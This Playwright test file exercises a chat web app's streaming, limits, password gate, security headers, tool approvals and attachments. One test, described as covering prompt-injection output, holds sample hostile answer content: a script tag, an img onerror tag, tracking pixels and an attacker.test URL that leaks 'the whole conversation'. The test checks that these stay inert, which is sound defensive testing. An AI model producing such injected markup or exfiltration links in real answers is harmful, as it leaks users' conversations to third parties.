"""The chat page in a real browser (headless Chromium), against the app started with its own
CLI (`prod`) and the fake provider on loopback, behind `UI_PASSWORD` (each new browser context,
a new visitor, passes the gate first) and with `API_TOKEN` set (the page needs none). The limits
are the defaults: every visitor comes from 127.0.0.1, as a room behind one NAT would.

`pytest -m browser` runs these (`make test-browser`); they build the frontend first, about a
minute. Screenshots go to `test-artifacts/`, at desktop and phone sizes, with the websocket
figures in `websocket.json`. axe-core (npm) checks each state in light and dark mode.
"""

import json
import os
import re
import time
from pathlib import Path
from typing import NamedTuple

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from {{ cookiecutter.package_name }}_ui.models import label, who_answers

from .conftest import BAKED_MODEL, PROJECT_DIR, TEST_MODELS, UNCONFIGURED_MODEL, running_app
from .fake_upstream import SCRIPTS, streamed_text, tool_answer
from .streams import post_chat
from .support import (
    CHROMIUM,
    CHROMIUM_ARGS,
    CSV,
    PDF,
    PNG,
    free_port,
    new_postgres_schema,
    npm_install,
    policy_refusals,
    postgres_bin_dir,
    serves,
    wait_until,
)
from .test_mcp import NOTES, servers_file

pytestmark = pytest.mark.browser

ARTIFACTS = PROJECT_DIR / "test-artifacts"
PASSWORD = "correct horse battery staple"
API_TOKEN = "browser-suite-api-token"
# Below the tests' MAX_REQUEST_BYTES (20000), so that a long question meets each limit.
MAX_MESSAGE_CHARS = 8000
# The defaults the app runs with (settings.py): a visitor's own open streams.
MAX_STREAMS_PER_VISITOR = 4
AXE_CORE = "axe-core@4.14.1"
# The image host of fake-hostile's answer that the page allows; the browser's requests to its
# hosts (*.test) are answered by the test itself.
ALLOWED_IMAGE_HOST = "images.allowed.test"
# What the test's hosts answer: a picture anyone can see in the screenshots.
CHART = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="240" height="80">'
    b'<rect width="240" height="80" fill="#3e63dd"/><text x="20" y="50" fill="white" '
    b'font-size="28">allowed image</text></svg>'
)
# The model that reads images and PDFs here (VISION_MODELS, PDF_MODELS).
VISION_MODEL = "openai/fake-vision"
DESKTOP = {"width": 1280, "height": 800}
PHONE = {"width": 390, "height": 844}


class App(NamedTuple):
    url: str  # the page
    api: str
    log: Path  # what a terminal showed


@pytest.fixture(scope="module")
def app(upstream, tmp_path_factory, request) -> App:
    """`python -m {{ cookiecutter.package_name }} prod` (or `$BROWSER_SUITE_COMMAND`: dev) with its own
    database."""
    tmp = tmp_path_factory.mktemp("browser")
    port = free_port()
    arguments = [os.environ.get("BROWSER_SUITE_COMMAND", "prod"), "--port", str(port)]
{%- if cookiecutter.framework == "flask" %}
    api_port = free_port()
    arguments += ["--api-port", str(api_port)]
    api_url = f"http://127.0.0.1:{api_port}"
{%- else %}
    api_url = f"http://127.0.0.1:{port}"
{%- endif %}
    # Reflex installs the page's npm packages again, as on a first start (in seconds, with
    # node_modules in place), so that the first test sees what a first start shows.
    (PROJECT_DIR / ".web" / "reflex.install_frontend_packages.cached").unlink(missing_ok=True)
    settings = {
        "mcp_servers": str(servers_file(tmp, notes=NOTES)),
        "database_url": page_database(request, tmp),
        "answer_image_hosts": ALLOWED_IMAGE_HOST,
        "ui_flush_ms": "50",
        "ui_password": PASSWORD,
        "api_token": API_TOKEN,
        "max_message_chars": str(MAX_MESSAGE_CHARS),
        "llm_models": ",".join([*TEST_MODELS, BAKED_MODEL]),
        "vision_models": VISION_MODEL,
        "pdf_models": VISION_MODEL,
    }
    with running_app(arguments, api_url, upstream, tmp, terminal=True, **settings) as server:
        url = f"http://127.0.0.1:{port}"
        wait_until(lambda: serves(url), f"the page at {url} is served", 300, server.process, 0.5)
        yield App(url, api_url, server.log)


def page_database(request, tmp) -> str:
    """PostgreSQL where its server is installed (always in CI), SQLite elsewhere."""
    if postgres_bin_dir() or os.environ.get("CI") == "true":
        return new_postgres_schema(request.getfixturevalue("postgres_server"))
    return f"sqlite:///{tmp / 'chat.db'}"


def test_a_first_start_shows_its_steps_not_npms_log(app):
    """What a terminal showed while `prod` installed the page's npm packages: our own lines
    and Reflex's spinner, no line of npm's log and no deprecation warning."""
    shown = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", app.log.read_text(errors="replace"))
    lines = [line.strip() for line in re.split(r"[\r\n]+", shown) if line.strip()]
    assert any(line.startswith("First start:") for line in lines), shown
    spinner = [line for line in lines if re.fullmatch(r"\S Installing [\w ]+", line)]
    assert spinner, shown  # e.g. "⠋ Installing frontend development dependencies"
    npm_log = [line for line in lines if re.search(r"\bnpm (silly|verbose|http|timing)\b", line)]
    assert npm_log == []
    assert [line for line in lines if "deprecat" in line.lower()] == []


def test_prods_workers_each_connect_to_the_mcp_servers_and_call_their_tools(app):
    """`prod` imports the app and then forks its workers: each connects in its own process."""
    health = f"{app.api}/api/health"
    wait_until(lambda: httpx.get(health).json().get("mcp") == {"notes": "ok"}, "connected", 30)
    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    stream = post_chat(app.api, "openai/fake-mcp", "Note: buy milk.", headers=auth)
    [output] = stream.of_type("tool-output-available")
    assert "saved" in json.dumps(output["output"])


@pytest.fixture(scope="module")
def browser() -> Browser:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def axe(tmp_path_factory) -> str:
    """axe-core's script, to inject into a page."""
    node_modules = npm_install(tmp_path_factory.mktemp("axe"), AXE_CORE)
    return (node_modules / "axe-core" / "axe.min.js").read_text()


@pytest.fixture
def page(app, browser) -> Page:
    """A new visitor (browser context) on the chat page, past the gate. Whatever the test does,
    the page's Content-Security-Policy must refuse nothing the page itself does."""
    context = browser.new_context(viewport=DESKTOP)
    page = context.new_page()
    # Shown with a failure: what the page logged, and when its websocket closed.
    page.on("console", lambda message: print(f"console {message.type}: {message.text}"))
    page.on("websocket", lambda ws: ws.on("close", lambda _: print(f"closed: {ws.url}")))
    refused = policy_refusals(page)
    page.goto(app.url)
    enter_password(page)
    yield page
    context.close()
    assert not refused, f"the page's policy refused what the page did: {refused}"


def enter_password(page: Page, password: str = PASSWORD) -> None:
    page.get_by_role("textbox", name="Password").fill(password)
    page.keyboard.press("Enter")
    expect_chat(page)


def expect_chat(page: Page) -> None:
    """The chat page, connected to the backend (the model list has loaded)."""
    expect(page.get_by_role("combobox", name="Model")).to_contain_text("fake-fast")


def open_tab(page: Page, url: str) -> Page:
    """Another tab of the same visitor: its cookies, its own Reflex session."""
    tab = page.context.new_page()
    tab.goto(url)
    expect_chat(tab)
    return tab


def choose_model(page: Page, model: str) -> None:
    page.get_by_role("combobox", name="Model").click()
    hover_text = page.locator(f'[title="{model}"]')  # the label's LiteLLM string
    page.get_by_role("option").filter(has=hover_text).click()


def ask(page: Page, question: str, model: str) -> None:
    choose_model(page, model)
    page.get_by_role("textbox", name="Your question").fill(question)
    page.keyboard.press("Enter")


def chat_log(page: Page):
    return page.get_by_role("log", name="Messages")


def answers(page: Page):
    return page.locator(".answer")


def live_text(page: Page) -> str:
    # In one read: the live answer may leave the page at any moment.
    return page.evaluate("document.querySelector('#live-answer')?.innerText ?? ''")


def sample_live_text(page: Page, until_answers: int, timeout_s: float = 30) -> list[str]:
    """The live answer's text every 20 ms, until `until_answers` answers are in the history."""
    samples, deadline = [], time.monotonic() + timeout_s
    while answers(page).count() < until_answers:
        assert time.monotonic() < deadline, "the answer did not finish"
        samples.append(live_text(page).removesuffix("Generating…").strip())
        page.wait_for_timeout(20)
    return samples


def screenshot(page: Page, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=ARTIFACTS / f"{name}.png", full_page=True)


def screenshots(page: Page, name: str) -> None:
    """`<name>-desktop` and `<name>-phone`: the same state at both sizes."""
    for size, viewport in (("desktop", DESKTOP), ("phone", PHONE)):
        page.set_viewport_size(viewport)
        screenshot(page, f"{name}-{size}")
    page.set_viewport_size(DESKTOP)


def set_color_mode(page: Page, mode: str) -> None:
    """Switch, then wait two frames for the page to repaint."""
    page.emulate_media(color_scheme=mode)
    page.evaluate(f"document.documentElement.className = '{mode}'")
    page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")


def sideways_scroll(page: Page) -> int:
    """How far the page, or the messages inside it, can scroll sideways (0: all fits)."""
    return page.evaluate(
        """() => Math.max(
          document.documentElement.scrollWidth - window.innerWidth,
          ...[...document.querySelectorAll("[role=log]")].map((l) => l.scrollWidth - l.clientWidth),
        )"""
    )


def serious_violations(page: Page, axe: str) -> list[dict]:
    """axe-core's serious and critical findings on the page as it is now."""
    if not page.evaluate("typeof window.axe !== 'undefined'"):
        page.evaluate(axe)  # by DevTools: a script tag would be refused by the page's policy
    return page.evaluate(
        """async () => (await axe.run(document, {resultTypes: ["violations"]})).violations
             .filter((v) => ["serious", "critical"].includes(v.impact))
             .map((v) => ({id: v.id, nodes: v.nodes.map((n) => n.html + n.failureSummary)}))"""
    )


def audit(page: Page, axe: str, state: str, sizes=(("desktop", DESKTOP), ("phone", PHONE))):
    """axe-core at each size in light and dark mode: nothing serious or critical. Shots of
    each size in light mode, and the first size in dark mode."""
    found, viewport_before = {}, page.viewport_size
    # axe must not measure a colour half-way through a transition.
    page.add_style_tag(content="*, *::before, *::after { transition: none !important; }")
    for size, viewport in sizes:
        page.set_viewport_size(viewport)
        for mode in ("light", "dark"):
            set_color_mode(page, mode)
            found[f"{size} {mode}"] = serious_violations(page, axe)
            assert sideways_scroll(page) <= 0, f"{state} scrolls sideways at {viewport}"
            if mode == "light" or size == sizes[0][0]:
                screenshot(page, f"{state}-{size}-{mode}")
    set_color_mode(page, "light")
    page.set_viewport_size(viewport_before)
    print(f"axe-core, {state}: " + ", ".join(f"{k} {len(v)}" for k, v in found.items()))
    assert not any(found.values()), found


def test_the_answer_grows_on_the_page_then_lands_in_the_history(page):
    text_box = page.get_by_role("textbox", name="Your question")
    width_before = text_box.bounding_box()["width"]
    ask(page, "Count for me", "openai/fake-slow")
    page.wait_for_function("document.querySelector('#live-answer')?.innerText.length > 20")
    expect(page.get_by_text("Generating…")).to_be_visible()
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    assert text_box.bounding_box()["width"] == width_before  # Stop takes Send's place exactly
    screenshots(page, "mid-stream")
    samples = sample_live_text(page, until_answers=1)

    full = streamed_text(SCRIPTS["fake-slow"].tokens).strip()
    lengths = sorted({len(sample) for sample in samples if sample})
    assert len(lengths) >= 4, lengths  # several intermediate renders, not one at the end
    assert all(full.startswith(sample) for sample in samples if sample)
    answer = answers(page).last
    expect(answer).to_contain_text(full)
    expect(answer).to_contain_text("openai/fake-slow")  # the finish line
    expect(answer).to_have_attribute("data-status", "done")


def test_an_answer_streaming_passes_axe(page, axe):
    ask(page, "Count a lot", "openai/fake-long")
    page.wait_for_function("document.querySelector('#live-answer')?.innerText.length > 30")
    audit(page, axe, "streaming")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()  # 20 s of answer: still on


def test_esc_stops_the_answer_and_the_provider_sees_the_connection_close(page, axe, upstream):
    ask(page, "Count a lot", "openai/fake-long")
    page.wait_for_function("document.querySelector('#live-answer')?.innerText.length > 30")
    page.get_by_role("button", name="System prompt").click()
    prompt = page.get_by_role("textbox", name="System prompt")
    expect(prompt).to_be_visible()
    page.keyboard.press("Escape")  # closes the popover, and only that
    expect(prompt).to_be_hidden()
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    page.keyboard.press("Escape")

    answer = answers(page).last
    expect(answer).to_have_attribute("data-status", "stopped", timeout=10_000)
    expect(answer.get_by_text("stopped", exact=True)).to_be_visible()
    record = upstream.last("fake-long")
    assert record.closed.wait(timeout=5)
    assert not record.completed
    assert 0 < record.sent < SCRIPTS["fake-long"].tokens
    assert streamed_text(3).strip() in answer.inner_text()
    audit(page, axe, "stopped")


def test_closing_the_tab_stops_the_answer_and_the_provider_call(page, app, upstream):
    ask(page, "Count until I leave", "openai/fake-long")
    page.wait_for_function("document.querySelector('#live-answer')?.innerText.length > 30")
    page.close()

    record = upstream.last("fake-long")
    assert record.closed.wait(timeout=10)
    assert not record.completed
    other = open_tab(page, app.url)
    sidebar = other.get_by_role("navigation")
    sidebar.get_by_role("button", name="Count until I leave", exact=True).click()
    expect(answers(other).last).to_have_attribute("data-status", "stopped")
    other.close()


def new_visitor(app: App, browser: Browser) -> Page:
    page = browser.new_context(viewport=DESKTOP).new_page()
    page.goto(app.url)
    enter_password(page)
    return page


def test_a_room_of_visitors_at_one_address_all_get_their_answers(app, browser):
    """Eight people behind one NAT ask at once, three rounds, with the default limits: each
    is a client of their own, so nobody is refused."""
    room = [new_visitor(app, browser) for _ in range(8)]
    for round_ in range(1, 4):
        for page in room:
            ask(page, f"Question {round_}", "openai/fake-slow")
        for page in room:
            expect(answers(page)).to_have_count(round_, timeout=30_000)
            expect(answers(page).last).to_have_attribute("data-status", "done")
            expect(answers(page).last).to_contain_text(streamed_text(3).strip())
    screenshot(room[0], "room-visitor")
    for page in room:
        page.context.close()


def test_a_visitor_over_their_own_limit_is_refused_and_another_is_not(page, app, browser):
    tabs = [page] + [open_tab(page, app.url) for _ in range(MAX_STREAMS_PER_VISITOR)]
    for tab in tabs[:-1]:
        ask(tab, "Count a lot", "openai/fake-long")
        expect(tab.get_by_role("button", name="Stop")).to_be_visible()
    ask(tabs[-1], "One more", "openai/fake-fast")
    refused = answers(tabs[-1]).last
    expect(refused).to_have_attribute("data-status", "error")
    expect(refused.get_by_role("alert")).to_contain_text(
        f"At most {MAX_STREAMS_PER_VISITOR} answers may stream at once per visitor"
    )
    screenshot(tabs[-1], "refused-visitor")

    other = new_visitor(app, browser)
    ask(other, "Meanwhile", "openai/fake-slow")
    expect(answers(other).last).to_have_attribute("data-status", "done", timeout=20_000)
    expect(tabs[0].get_by_role("button", name="Stop")).to_be_visible()  # still streaming
    other.context.close()
    for tab in tabs[1:]:
        tab.close()


def test_a_provider_failure_shows_next_to_the_partial_text(page, axe):
    ask(page, "Try", "openai/fake-fail-mid")
    answer = answers(page).last
    expect(answer).to_have_attribute("data-status", "error", timeout=15_000)
    expect(answer).to_contain_text(streamed_text(SCRIPTS["fake-fail-mid"].fail_after).strip())
    expect(answer.get_by_role("alert")).to_be_visible()
    expect(answer.get_by_role("button", name="Retry")).to_be_visible()
    expect(answer.get_by_role("button", name="Regenerate answer")).to_have_count(0)
    audit(page, axe, "error")


def test_code_renders_while_streaming_without_raw_fences(page, axe):
    ask(page, "Show me code", "openai/fake-markdown")
    samples = sample_live_text(page, until_answers=1)

    assert any("def greet" in sample for sample in samples)  # code shown mid-answer
    assert not any("`" in sample for sample in samples)  # never a raw fence or backtick
    answer = answers(page).last
    expect(answer.locator("code", has_text="def greet(name)")).to_be_visible()
    expect(answer.get_by_role("button", name="Copy code")).to_be_visible()
    expect(answer).to_contain_text("It returns a greeting.")
    expect(answer.locator("strong", has_text="the code")).to_be_visible()
    assert "**" not in answer.inner_text()
    audit(page, axe, "markdown")


def test_an_injected_answer_runs_nothing_and_sends_nothing_to_another_host(page, axe):
    """What a prompt injection wrote: its HTML stays text and its script never runs; its image
    on another host is a link, which loads nothing until the visitor opens it."""
    requests = []

    def answer_for_test_hosts(route):
        requests.append((route.request.url, route.request.headers.get("referer")))
        if route.request.url.startswith(f"http://{ALLOWED_IMAGE_HOST}/"):
            route.fulfill(body=CHART, content_type="image/svg+xml")
        else:  # an error, so that an `onerror` would run if the raw HTML were rendered
            route.fulfill(status=404)

    page.context.route("http://*.test/**", answer_for_test_hosts)
    ask(page, "Draw me a chart", "openai/fake-hostile")
    answer = answers(page).last
    expect(answer).to_have_attribute("data-status", "done")

    chart = answer.get_by_role("img", name="chart")
    expect(chart).to_be_visible()
    loaded = "image => image.complete && image.naturalWidth > 0"
    page.wait_for_function(loaded, arg=chart.element_handle())
    expect(answer).to_contain_text("<script>window.pwned = 2</script>")
    expect(answer).to_contain_text('<img src="http://attacker.test/raw.png" onerror=')
    expect(answer.get_by_role("link", name="Click me")).to_have_count(0)
    guide = answer.get_by_role("link", name="the guide")
    expect(guide).to_have_attribute("rel", "noopener noreferrer")
    expect(guide).to_have_attribute("target", "_blank")
    expect(answer).to_contain_text("the guide (docs.example.test)")
    expect(answer).to_contain_text("docs.example.test (attacker.test)")  # where it really goes
    for name in ("tracking pixel", "another pixel"):
        link = answer.get_by_role("link", name=f"[Image: {name}] (attacker.test)")
        expect(link).to_be_visible()
    placeholder = answer.get_by_role("link", name="[Image: tracking pixel] (attacker.test)")
    screenshots(page, "injected-answer")
    audit(page, axe, "injected-answer", sizes=(("desktop", DESKTOP),))
    assert page.evaluate("window.pwned") is None
    assert requests == [(f"http://{ALLOWED_IMAGE_HOST}/chart.png", None)]

    with page.expect_popup() as opened:
        placeholder.click()
    opened.value.wait_for_load_state()
    leak = "http://attacker.test/leak.png?c=the+whole+conversation"
    assert requests[1:] == [(leak, None)]  # on the visitor's click, in a tab of its own
    assert page.evaluate("window.pwned") is None


def test_the_page_its_files_and_the_api_send_the_security_headers(app, page):
    """Headers, and the cookies' attributes; that the page works under its policy, each test
    with a page says (its fixture)."""
    cookies = {cookie["name"]: cookie for cookie in page.context.cookies()}
    for name in ("owner", "session"):
        cookie = cookies[f"{{ cookiecutter.package_name }}_{name}"]
        assert (cookie["sameSite"], cookie["secure"]) == ("Strict", False)  # Secure over HTTPS
    document = httpx.get(app.url)
    page_policy = document.headers["content-security-policy"]
    assert "default-src 'self'" in page_policy and "'sha256-" in page_policy  # inline scripts
    assert f"img-src 'self' data: {ALLOWED_IMAGE_HOST};" in page_policy
    assert page_policy.endswith("frame-ancestors 'none'")
    script = httpx.get(app.url + re.findall(r"/assets/[\w.-]+\.js", document.text)[0])
    assert script.headers["content-type"].startswith("text/javascript")
    token = {"authorization": f"Bearer {API_TOKEN}"}
    models = httpx.get(f"{app.api}/api/models", headers=token)
    question = {"messages": [{"role": "user", "content": "Hello"}]}
    with httpx.stream("POST", f"{app.api}/api/chat", json=question, headers=token) as answer:
        assert answer.headers["content-type"].startswith("text/event-stream")
    for response in (document, script, models, answer):
        assert response.status_code == 200
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"
        assert response.headers["x-frame-options"] == "DENY"
        assert "strict-transport-security" not in response.headers  # plain HTTP
    for response in (script, models, answer):
        policy = response.headers["content-security-policy"]
        assert policy == "default-src 'none'; frame-ancestors 'none'"
    # From a proxy on this machine (FORWARDED_ALLOW_IPS), for a client that came over HTTPS.
    over_https = httpx.get(app.url, headers={"x-forwarded-proto": "https"})
    assert over_https.headers["strict-transport-security"].startswith("max-age=")


def test_a_tool_call_shows_while_it_runs_then_opens_to_its_arguments_and_result(page, axe):
    ask(page, "What is 6*7?", "openai/fake-tool-slow")  # the call's frames 0.4 s apart
    running = page.locator("#live-answer .tool-call")
    expect(running).to_have_attribute("data-state", "running")
    expect(running).to_contain_text("calculate")
    screenshots(page, "tool-running")

    answer = answers(page).last
    expect(answer).to_have_attribute("data-status", "done", timeout=15_000)
    call = answer.locator(".tool-call")
    expect(call).to_have_attribute("data-state", "done")
    expect(answer).to_contain_text(tool_answer(["42"]))
    call.get_by_text("calculate").click()  # opens it
    expect(call).to_contain_text('{"expression": "6*7"}')
    expect(call.locator("pre").last).to_have_text("42")
    audit(page, axe, "tool-done")

    page.reload()  # saved with the answer
    expect(answers(page).last.locator(".tool-call")).to_have_attribute("data-state", "done")


def test_a_call_waits_for_approve_or_deny_on_the_page_even_across_a_reload(page, axe):
    """The example server's delete_note is destructive: it runs only once the visitor
    approves, and the question is still there after a reload."""
    ask(page, "Delete note 1", "openai/fake-mcp-delete")
    asking = answers(page).last.get_by_role("group", name="A tool call waiting for approval")
    expect(asking).to_contain_text("Run notes · delete_note?")
    expect(asking).to_contain_text('{"number": 1}')
    audit(page, axe, "approval", sizes=(("desktop", DESKTOP),))
    screenshots(page, "approval-asked")

    page.reload()  # the question stays, with its buttons
    asking = answers(page).last.get_by_role("group", name="A tool call waiting for approval")
    asking.get_by_role("button", name="Deny").click()
    call = answers(page).last.locator(".tool-call")
    expect(call).to_have_attribute("data-state", "denied", timeout=15_000)
    expect(call).to_contain_text("not allowed")
    expect(answers(page)).to_have_count(1)  # the same answer went on
    expect(answers(page).last).to_have_attribute("data-status", "done")
    screenshots(page, "approval-denied")

    ask(page, "Delete note 1, please", "openai/fake-mcp-delete")
    asking = answers(page).last.get_by_role("group", name="A tool call waiting for approval")
    asking.get_by_role("button", name="Approve").click()
    call = answers(page).last.locator(".tool-call")
    # It ran: the notes server deleted the note, or said there is none in this worker's book.
    expect(call).to_have_attribute("data-state", re.compile("done|error"), timeout=15_000)
    call.get_by_text("notes · delete_note").click()
    expect(call.locator("pre").last).to_contain_text(re.compile("Deleted note 1|no note 1"))
    screenshots(page, "approval-approved")


def test_on_a_phone_everything_fits_and_the_conversations_are_a_drawer(page, axe):
    page.set_viewport_size(PHONE)
    expect(page.get_by_role("navigation", name="Conversations")).to_have_count(0)
    long_word = "https://example.com/" + "a" * 150  # wraps inside its bubble, no sideways scroll
    ask(page, f"Show me code for {long_word}", "openai/fake-markdown")
    expect(answers(page)).to_have_count(1)
    expect(answers(page).last).to_contain_text("It returns a greeting.")
    assert sideways_scroll(page) <= 0
    for control in (
        page.get_by_role("textbox", name="Your question"),
        page.get_by_role("button", name="Send"),
        answers(page).last,
        chat_log(page).get_by_text(long_word),
    ):
        box = control.bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= PHONE["width"], box
        assert box["y"] + box["height"] <= PHONE["height"], box
    screenshot(page, "phone-answer")

    page.get_by_role("button", name="Conversations").click()
    drawer = page.get_by_role("navigation", name="Conversations")
    expect(drawer).to_be_visible()
    slid_in = "document.querySelector('[role=dialog]').getBoundingClientRect().left === 0"
    page.wait_for_function(slid_in)
    audit(page, axe, "drawer", sizes=(("phone", PHONE),))
    page.keyboard.press("Escape")
    expect(drawer).to_have_count(0)

    page.get_by_role("button", name="Conversations").click()
    drawer.get_by_role("button", name="New chat").click()
    expect(drawer).to_have_count(0)  # choosing closes it
    expect(answers(page)).to_have_count(0)


def test_history_survives_a_reload_and_a_new_tab(page, app):
    ask(page, "Remember this question", "openai/fake-fast")
    expect(answers(page)).to_have_count(1)
    page.reload()
    expect(chat_log(page).get_by_text("Remember this question")).to_be_visible()

    other = open_tab(page, app.url)  # a new Reflex session: only the database knows the chat
    sidebar = other.get_by_role("navigation")
    sidebar.get_by_role("button", name="Remember this question", exact=True).click()
    expect(chat_log(other).get_by_text("Remember this question")).to_be_visible()
    expect(answers(other)).to_contain_text(streamed_text(SCRIPTS["fake-fast"].tokens).strip())
    other.close()


def test_a_reload_mid_answer_shows_all_of_it_so_far_and_it_is_saved_once(page, upstream):
    ask(page, "Count through a reload", "openai/fake-steady")
    page.wait_for_function("document.querySelector('#live-answer')?.innerText.length > 20")
    before = live_text(page).removesuffix("Generating…").strip()
    page.reload()
    shown = [sample for sample in sample_live_text(page, until_answers=1) if sample]

    full = streamed_text(SCRIPTS["fake-steady"].tokens).strip()
    assert shown and shown[0].startswith(before), (before, shown[:1])
    assert all(full.startswith(sample) for sample in shown)  # nothing doubled or missing
    answer = answers(page).last
    expect(answer).to_contain_text(full)
    expect(answer).to_have_attribute("data-status", "done")
    assert upstream.last("fake-steady").completed
    page.reload()
    expect(chat_log(page).get_by_text("Count through a reload")).to_be_visible()
    expect(answers(page)).to_have_count(1)


def test_each_visitor_sees_and_deletes_only_their_own_conversations(page, browser, app):
    someone_else = browser.new_context(viewport={"width": 1280, "height": 800}).new_page()
    someone_else.goto(app.url)
    enter_password(someone_else)
    ask(page, "My own question", "openai/fake-fast")
    ask(someone_else, "Their own question", "openai/fake-fast")
    for visitor in (page, someone_else):
        expect(answers(visitor)).to_have_count(1)
        visitor.reload()
        expect_chat(visitor)
    mine, theirs = page.get_by_role("navigation"), someone_else.get_by_role("navigation")
    expect(mine.get_by_role("button", name="My own question", exact=True)).to_be_visible()
    expect(mine.get_by_role("button", name="Their own question", exact=True)).to_have_count(0)
    expect(theirs.get_by_role("button", name="My own question", exact=True)).to_have_count(0)

    theirs.get_by_role("button", name="Delete Their own question").click()
    expect(theirs.get_by_role("button", name="Their own question", exact=True)).to_have_count(0)
    page.reload()
    expect(mine.get_by_role("button", name="My own question", exact=True)).to_be_visible()
    someone_else.context.close()


def test_the_gate_shows_nothing_else_until_the_password_and_remembers_it(app, browser):
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    page.goto(app.url)
    expect(page.get_by_role("textbox", name="Password")).to_be_visible()
    for hidden in ("navigation", "log", "combobox"):
        expect(page.get_by_role(hidden)).to_have_count(0)

    page.get_by_role("textbox", name="Password").fill("a wrong guess")
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_have_text("That is not the password.")
    screenshot(page, "gate-refused")
    expect(page.get_by_role("navigation")).to_have_count(0)

    enter_password(page)
    page.reload()
    expect_chat(page)
    expect(page.get_by_role("textbox", name="Password")).to_have_count(0)
    context.close()


def test_edit_resends_and_regenerate_replaces_the_answer(page, upstream):
    ask(page, "First question", "openai/fake-fast")
    expect(answers(page)).to_have_count(1)

    page.get_by_role("button", name="Edit question").click()
    page.get_by_role("textbox", name="Edit your question").fill("Edited question")
    page.keyboard.press("Enter")
    expect(chat_log(page).get_by_text("Edited question")).to_be_visible()
    expect(chat_log(page).get_by_text("First question", exact=True)).to_have_count(0)
    expect(answers(page)).to_have_count(1)

    requests_before = len(upstream.records)
    page.get_by_role("button", name="Regenerate answer").click()
    wait_until(lambda: len(upstream.records) > requests_before, "the answer is asked again")
    assert len(upstream.records) == requests_before + 1
    expect(answers(page)).to_have_count(1)
    expect(page.get_by_role("button", name="Regenerate answer")).to_be_visible()


def test_conversations_begun_alike_are_told_apart_by_their_titles(page):
    """The model names each conversation after its first answer (the fake one with the last
    four words of the question); until then, and if it cannot, the first words stay."""
    sidebar = page.get_by_role("navigation")
    for subject in ("a dragon", "a robot", "the sea"):
        page.get_by_role("button", name="New chat").click()
        ask(page, f"Write a long story about {subject} and its friends", "openai/fake-fast")
        expect(answers(page)).to_have_count(1)
        title = subject.split()[-1] + " and its friends"
        expect(sidebar.get_by_role("button", name=title, exact=True)).to_be_visible()
    screenshots(page, "titles")


def test_conversations_are_renamed_and_deleted_from_the_sidebar(page):
    ask(page, "A chat to rename", "openai/fake-fast")
    expect(answers(page)).to_have_count(1)
    sidebar = page.get_by_role("navigation")
    sidebar.get_by_role("button", name="New chat").click()
    ask(page, "Another chat", "openai/fake-fast")
    expect(answers(page)).to_have_count(1)
    # The open conversation's title starts where the others' do.
    titles = ("A chat to rename", "Another chat")
    lefts = [sidebar.get_by_text(title, exact=True).bounding_box()["x"] for title in titles]
    assert lefts[0] == lefts[1], lefts
    sidebar.get_by_role("button", name="Rename A chat to rename").click()
    page.get_by_role("textbox", name="Title").fill("Renamed chat")
    page.keyboard.press("Enter")
    renamed = sidebar.get_by_role("button", name="Renamed chat", exact=True)
    expect(renamed).to_be_visible()

    sidebar.get_by_role("button", name="Delete Renamed chat").click()
    expect(renamed).to_have_count(0)
    expect(answers(page)).to_have_count(1)  # another conversation's: the open one stays
    sidebar.get_by_role("button", name="Delete Another chat").click()
    expect(answers(page)).to_have_count(0)


def give_file(page: Page, how: str, name: str, media_type: str, content: str) -> None:
    """Paste a file into the question box (as pasting a screenshot does), or drop it there."""
    page.get_by_role("textbox", name="Your question").evaluate(
        """(box, [how, name, type, content]) => {
          const data = new DataTransfer();
          data.items.add(new File([content], name, { type }));
          const event = how === "paste"
            ? new ClipboardEvent("paste", { clipboardData: data, bubbles: true })
            : new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true });
          box.dispatchEvent(event);
        }""",
        [how, name, media_type, content],
    )


def test_files_attached_by_button_paste_and_drop_go_with_the_question_and_stay_the_owners(
    page, app, browser, upstream, axe
):
    attached = page.get_by_role("group", name="Attached files").locator(".composer-file")
    choose_model(page, "openai/fake-fast")  # reads text only: the page says so at once
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach files").click()
    chooser.value.set_files([{"name": "dot.png", "mimeType": "image/png", "buffer": PNG}])
    fake_fast = label("openai/fake-fast", upstream.base_url)
    expect(page.get_by_role("alert")).to_have_text(
        f"{fake_fast} cannot read images (dot.png); it reads text files."
    )
    choose_model(page, VISION_MODEL)
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach files").click()
    many = [{"name": f"{n}.csv", "mimeType": "text/csv", "buffer": CSV} for n in range(6)]
    chooser.value.set_files(many)  # one more than a question may bring: none is uploaded
    expect(page.get_by_role("alert")).to_have_text("A question may bring up to 5 files.")
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach files").click()
    chooser.value.set_files(
        [
            {"name": "dot.png", "mimeType": "image/png", "buffer": PNG},
            {"name": "wrong.csv", "mimeType": "text/csv", "buffer": b"x"},
        ]
    )
    expect(attached).to_have_count(2)
    page.get_by_role("button", name="Remove wrong.csv").click()
    expect(attached).to_have_count(1)
    give_file(page, "paste", "report.pdf", "application/pdf", PDF.decode())
    expect(attached).to_have_count(2)
    give_file(page, "drop", "cities.csv", "text/csv", CSV.decode())
    expect(attached).to_have_count(3)
    audit(page, axe, "attached-files")

    ask(page, "What is in these?", VISION_MODEL)

    expect(answers(page).last).to_have_attribute("data-status", "done")
    text, files = upstream.last("fake-vision").question()
    assert "Paris,2100000" in text
    assert [media_type for media_type, _ in files] == ["image/png", "application/pdf"]
    sent = page.locator(".sent-file")
    expect(sent).to_have_count(3)
    expect(attached).to_have_count(0)
    screenshots(page, "attachments-sent")
    page.reload()
    expect(sent).to_have_count(3)
